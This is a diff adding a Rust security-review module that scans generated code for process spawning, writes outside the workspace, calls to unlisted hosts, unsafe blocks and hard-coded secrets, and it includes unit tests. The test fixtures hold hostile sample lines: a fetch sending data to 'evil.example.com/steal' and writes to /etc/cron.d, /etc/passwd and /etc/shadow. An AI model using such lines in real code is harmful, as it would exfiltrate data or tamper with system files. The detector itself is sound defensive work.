@@ -0,0 +1,405 @@
+use crate::helpers::general::GeneratedSource;
+
+use serde::{Deserialize, Serialize};
+use std::path::PathBuf;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Severity {
+  Medium,
+  High,
+}
+
+impl Severity {
+  pub fn as_str(&self) -> &'static str {
+    match self {
+      Self::Medium => "medium",
+      Self::High => "high",
+    }
+  }
+}
+
+// something dangerous found in generated code
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Finding {
+  // process, filesystem, network, unsafe or secret
+  pub check: String,
+  pub severity: Severity,
+  // reviewed file relative to the workspace
+  pub file: PathBuf,
+  // 1 based line in that file
+  pub line: usize,
+  pub detail: String,
+}
+
+impl Finding {
+  // eg. src/main.rs:12
+  pub fn location(&self) -> String {
+    format!("{}:{}", self.file.display(), self.line)
+  }
+}
+
+const PROCESS_CALLS: [&str; 2] = ["Command::new", "process::Command"];
+
+const FILE_WRITES: [&str; 7] = [
+  "fs::write",
+  "File::create",
+  "OpenOptions",
+  "fs::create_dir",
+  "fs::remove_",
+  "fs::rename",
+  "fs::copy",
+];
+
+// hosts the generated server may always talk to
+const LOCAL_HOSTS: [&str; 3] = ["127.0.0.1", "localhost", "0.0.0.0"];
+
+// prefixes of well known api keys and private keys
+const SECRET_PREFIXES: [&str; 8] = [
+  "sk-", "sk_live_", "AKIA", "ghp_", "github_pat_", "xoxb-", "xoxp-", "-----BEGIN",
+];
+
+// names whose hard-coded value is a credential
+const SECRET_NAMES: [&str; 5] = ["password", "secret", "api_key", "apikey", "token"];
+
+// contents of the "..." literals on a line, escapes are kept as written
+fn string_literals(line: &str) -> Vec<&str> {
+  let mut literals: Vec<&str> = vec![];
+  let mut start: Option<usize> = None;
+  let mut escaped: bool = false;
+  for (i, c) in line.char_indices() {
+    match (c, start) {
+      ('\\', Some(_)) if !escaped => escaped = true,
+      ('"', Some(from)) if !escaped => {
+        literals.push(&line[from..i]);
+        start = None;
+      }
+      ('"', None) => start = Some(i + 1),
+      _ => escaped = false,
+    }
+  }
+  literals
+}
+
+// eg. HTTPS://Api.Example.com:443/v1 becomes api.example.com, schemes and hosts are case insensitive
+pub fn url_host(url: &str) -> Option<String> {
+  let (scheme, rest): (&str, &str) = url.split_once("://")?;
+  if !scheme.eq_ignore_ascii_case("https") && !scheme.eq_ignore_ascii_case("http") {
+    return None;
+  }
+  let host: &str = rest.split(['/', ':', '?', '#']).next()?;
+  (!host.is_empty()).then(|| host.to_lowercase())
+}
+
+// names a file's use declarations bring in and the paths they stand for,
+// eg. `use std::process::Command as Run;` gives Run for std::process::Command
+fn use_aliases(code: &str) -> Vec<(String, String)> {
+  let mut aliases: Vec<(String, String)> = vec![];
+  for line in code.lines() {
+    let line: &str = line.trim();
+    let Some(decl) = line.strip_prefix("use ").or_else(|| line.strip_prefix("pub use ")) else {
+      continue;
+    };
+    let decl: &str = decl.trim_end_matches(';').trim();
+    let items: Vec<String> = match decl.split_once("::{") {
+      Some((prefix, group)) => group
+        .trim_end_matches('}')
+        .split(',')
+        .map(|item| format!("{}::{}", prefix, item.trim()))
+        .collect(),
+      None => vec![decl.to_string()],
+    };
+
+    for item in items {
+      let (path, alias): (&str, &str) = match item.split_once(" as ") {
+        Some((path, alias)) => (path.trim(), alias.trim()),
+        None => (item.as_str(), item.trim_end_matches("::self").rsplit("::").next().unwrap_or_default()),
+      };
+      let path: &str = path.trim_end_matches("::self");
+      if path.contains("::") && !alias.is_empty() && alias != "*" && alias != "_" {
+        aliases.push((alias.to_string(), path.to_string()));
+      }
+    }
+  }
+  aliases
+}
+
+// spell imported names out in full outside string literals, so a check matches however the call was imported
+fn expand_aliases(line: &str, aliases: &[(String, String)]) -> String {
+  let is_ident = |c: char| c.is_alphanumeric() || c == '_';
+  let mut expanded: String = String::with_capacity(line.len());
+  let mut prev: Option<char> = None;
+  let mut in_string: bool = false;
+  let mut chars = line.char_indices().peekable();
+
+  while let Some((i, c)) = chars.next() {
+    if in_string || !is_ident(c) || prev.is_some_and(|p| is_ident(p) || p == '.' || p == ':') {
+      if c == '"' && prev != Some('\\') {
+        in_string = !in_string;
+      }
+      expanded.push(c);
+      prev = Some(c);
+      continue;
+    }
+
+    let end: usize = line[i..].find(|c: char| !is_ident(c)).map_or(line.len(), |len| i + len);
+    let ident: &str = &line[i..end];
+    let after: &str = &line[end..];
+    match aliases.iter().find(|(alias, _)| alias == ident) {
+      Some((_, path)) if after.starts_with("::") || after.starts_with('(') => expanded.push_str(path),
+      _ => expanded.push_str(ident),
+    }
+    while chars.next_if(|(j, _)| *j < end).is_some() {}
+    prev = ident.chars().next_back();
+  }
+  expanded
+}
+
+fn is_unsafe_block(line: &str) -> bool {
+  line.match_indices("unsafe").any(|(at, _)| {
+    let before: Option<char> = line[..at].chars().next_back();
+    let after: &str = line[at + "unsafe".len()..].trim_start();
+    !before.is_some_and(|c| c.is_alphanumeric() || c == '_')
+      && (after.starts_with('{') || after.starts_with("fn ") || after.starts_with("impl "))
+  })
+}
+
+fn review_line(line: &str, allowed_hosts: &[String]) -> Vec<(&'static str, Severity, String)> {
+  let mut findings: Vec<(&'static str, Severity, String)> = vec![];
+  let literals: Vec<&str> = string_literals(line);
+
+  if PROCESS_CALLS.iter().any(|call| line.contains(call)) {
+    findings.push(("process", Severity::High, "runs an external program".to_string()));
+  }
+
+  if let Some(at) = FILE_WRITES.iter().find_map(|call| line.find(call)) {
+    // only a literal first argument is a known path
+    let args: &str = line[at..].split_once('(').map_or("", |(_, args)| args).trim_start();
+    let path: Option<&str> = match args.starts_with('"') {
+      true => string_literals(args).first().copied(),
+      false => None,
+    };
+    match path {
+      Some(path) if path.starts_with('/') || path.starts_with('~') || path.contains("..") => {
+        findings.push(("filesystem", Severity::High, format!("writes to {}, outside the workspace", path)));
+      }
+      Some(_) => {}
+      None => findings.push(("filesystem", Severity::Medium, "writes to a path built at runtime".to_string())),
+    }
+  }
+
+  for host in literals.iter().filter_map(|literal| url_host(literal)) {
+    if !LOCAL_HOSTS.contains(&host.as_str()) && !allowed_hosts.contains(&host) {
+      findings.push((
+        "network",
+        Severity::High,
+        format!("connects to {}, which is not one of the project's external urls", host),
+      ));
+    }
+  }
+
+  if is_unsafe_block(line) {
+    findings.push(("unsafe", Severity::High, "uses unsafe code".to_string()));
+  }
+
+  if literals
+    .iter()
+    .any(|literal| literal.len() >= 16 && SECRET_PREFIXES.iter().any(|prefix| literal.starts_with(prefix)))
+  {
+    findings.push(("secret", Severity::High, "contains what looks like an api key or private key".to_string()));
+  } else if let Some((name, value)) = line.split_once("= \"") {
+    let name: String = name.to_lowercase();
+    let value: &str = value.split('"').next().unwrap_or_default();
+    if value.len() >= 8 && SECRET_NAMES.iter().any(|secret| name.contains(secret)) {
+      findings.push(("secret", Severity::Medium, "hard-codes a credential".to_string()));
+    }
+  }
+  findings
+}
+
+// static checks on one generated file, comment lines are skipped
+pub fn review_code(source: &GeneratedSource, external_urls: &[String]) -> Vec<Finding> {
+  let allowed_hosts: Vec<String> = external_urls.iter().filter_map(|url| url_host(url)).collect();
+  let aliases: Vec<(String, String)> = use_aliases(&source.code);
+  source
+    .code
+    .lines()
+    .enumerate()
+    .filter(|(_, line)| !line.trim_start().starts_with("//"))
+    .flat_map(|(i, line)| {
+      review_line(&expand_aliases(line, &aliases), &allowed_hosts)
+        .into_iter()
+        .map(move |(check, severity, detail)| Finding {
+          check: check.to_string(),
+          severity,
+          file: source.path.clone(),
+          line: i + 1,
+          detail,
+        })
+    })
+    .collect()
+}
+
+// findings of every file, in the order the files are given
+pub fn review_files(files: &[GeneratedSource], external_urls: &[String]) -> Vec<Finding> {
+  files
+    .iter()
+    .flat_map(|file| review_code(file, external_urls))
+    .collect()
+}
+
+pub fn has_high_severity(findings: &[Finding]) -> bool {
+  findings.iter().any(|finding| finding.severity == Severity::High)
+}
+
+// shown in the approval prompt and the run report
+pub fn findings_summary(findings: &[Finding]) -> String {
+  if findings.is_empty() {
+    return "Security review: no findings".to_string();
+  }
+
+  let high: usize = findings.iter().filter(|finding| finding.severity == Severity::High).count();
+  let mut lines: Vec<String> = vec![format!(
+    "Security review: {} findings ({} high, {} medium)",
+    findings.len(),
+    high,
+    findings.len() - high
+  )];
+  let mut sorted: Vec<&Finding> = findings.iter().collect();
+  sorted.sort_by_key(|finding| (std::cmp::Reverse(finding.severity), &finding.file, finding.line));
+  lines.extend(sorted.iter().map(|finding| {
+    format!(
+      "  {:<6} {:<10} {}: {}",
+      finding.severity.as_str(),
+      finding.check,
+      finding.location(),
+      finding.detail
+    )
+  }));
+  lines.join("\n")
+}
+
+#[cfg(test)]
+mod tests {
+  use super::*;
+
+  const RISKY_CODE: &str = r#"use std::process::Command;
+// Command::new("ignored in comments")
+const API_KEY: &str = "sk-live0123456789abcdef";
+fn main() {
+  let admin_password = "hunter2hunter2";
+  let _ = std::fs::write("/etc/cron.d/job", "x");
+  let _ = std::fs::write("db.json", "{}");
+  let _ = std::fs::write(path, "{}");
+  let _ = reqwest::get("https://evil.example.com/x");
+  let _ = reqwest::get("https://api.weather.com/v1?q=1");
+  let _ = reqwest::get("http://127.0.0.1:8080/health");
+  unsafe { libc::getpid() };
+  let unsafe_count = 1;
+}
+"#;
+
+  fn main_rs(code: &str) -> GeneratedSource {
+    GeneratedSource {
+      path: PathBuf::from("src/main.rs"),
+      code: code.to_string(),
+    }
+  }
+
+  #[test]
+  fn test_review_code() {
+    let findings: Vec<Finding> = review_code(&main_rs(RISKY_CODE), &["https://api.weather.com/v1".to_string()]);
+    let found: Vec<(&str, Severity, usize)> = findings
+      .iter()
+      .map(|finding| (finding.check.as_str(), finding.severity, finding.line))
+      .collect();
+    assert_eq!(
+      found,
+      vec![
+        ("process", Severity::High, 1),
+        ("secret", Severity::High, 3),
+        ("secret", Severity::Medium, 5),
+        ("filesystem", Severity::High, 6),
+        ("filesystem", Severity::Medium, 8),
+        ("network", Severity::High, 9),
+        ("unsafe", Severity::High, 12),
+      ]
+    );
+    assert!(findings[5].detail.starts_with("connects to evil.example.com"));
+    assert!(has_high_severity(&findings));
+    assert!(review_code(&main_rs("fn main() { let port = std::env::var(\"PORT\"); }"), &[]).is_empty());
+  }
+
+  #[test]
+  fn test_imported_names_are_checked_in_full() {
+    let code: GeneratedSource = main_rs(
+      "use std::process::Command as Run;\nuse std::fs::{self as files, write};\nfn main() {\n  Run::new(\"sh\");\n  files::write(\"/etc/passwd\", \"x\");\n  write(\"/etc/shadow\", \"x\");\n  let _ = \"Run::new\";\n  let _ = buf.write(b);\n}\n",
+    );
+    let findings: Vec<Finding> = review_code(&code, &[]);
+    let found: Vec<(&str, Severity, usize)> = findings
+      .iter()
+      .map(|finding| (finding.check.as_str(), finding.severity, finding.line))
+      .collect();
+    assert_eq!(
+      found,
+      vec![
+        ("process", Severity::High, 1),
+        ("process", Severity::High, 4),
+        ("filesystem", Severity::High, 5),
+        ("filesystem", Severity::High, 6),
+      ]
+    );
+  }
+
+  #[test]
+  fn test_url_hosts_ignore_case() {
+    assert_eq!(url_host("HTTPS://Api.Weather.com:443/v1").as_deref(), Some("api.weather.com"));
+    assert_eq!(url_host("Http://LOCALHOST/x").as_deref(), Some("localhost"));
+    assert_eq!(url_host("ftp://api.weather.com"), None);
+
+    // the verified url and the code may spell the host differently
+    let code: GeneratedSource =
+      main_rs("let _ = reqwest::get(\"https://API.weather.com/v1\");\nlet _ = reqwest::get(\"HTTPS://evil.example.com\");\n");
+    let findings: Vec<Finding> = review_code(&code, &["https://api.Weather.com/v1".to_string()]);
+    assert_eq!(findings.len(), 1);
+    assert_eq!(findings[0].location(), "src/main.rs:2");
+    assert!(findings[0].detail.starts_with("connects to evil.example.com"));
+  }
+
+  #[test]
+  fn test_review_files_records_each_file() {
+    let files: Vec<GeneratedSource> = vec![
+      main_rs("fn main() {}\n"),
+      GeneratedSource {
+        path: PathBuf::from("src/qa_tests.rs"),
+        code: "#[test]\nfn t() {\n  std::process::Command::new(\"sh\");\n}\n".to_string(),
+      },
+      GeneratedSource {
+        path: PathBuf::from("static/index.html"),
+        code: "<script>\nfetch(\"https://evil.example.com/steal\");\n</script>\n".to_string(),
+      },
+    ];
+    let findings: Vec<Finding> = review_files(&files, &[]);
+    let found: Vec<(&str, String)> = findings
+      .iter()
+      .map(|finding| (finding.check.as_str(), finding.location()))
+      .collect();
+    assert_eq!(
+      found,
+      vec![
+        ("process", "src/qa_tests.rs:3".to_string()),
+        ("network", "static/index.html:2".to_string()),
+      ]
+    );
+  }
+
+  #[test]
+  fn test_findings_summary() {
+    let findings: Vec<Finding> = review_code(&main_rs("let a = 1;\nlet _ = std::fs::write(path, b);\nunsafe {}\n"), &[]);
+    assert_eq!(
+      findings_summary(&findings),
+      "Security review: 2 findings (1 high, 1 medium)\n  high   unsafe     src/main.rs:3: uses unsafe code\n  medium filesystem src/main.rs:2: writes to a path built at runtime"
+    );
+    assert_eq!(findings_summary(&[]), "Security review: no findings");
+  }
+}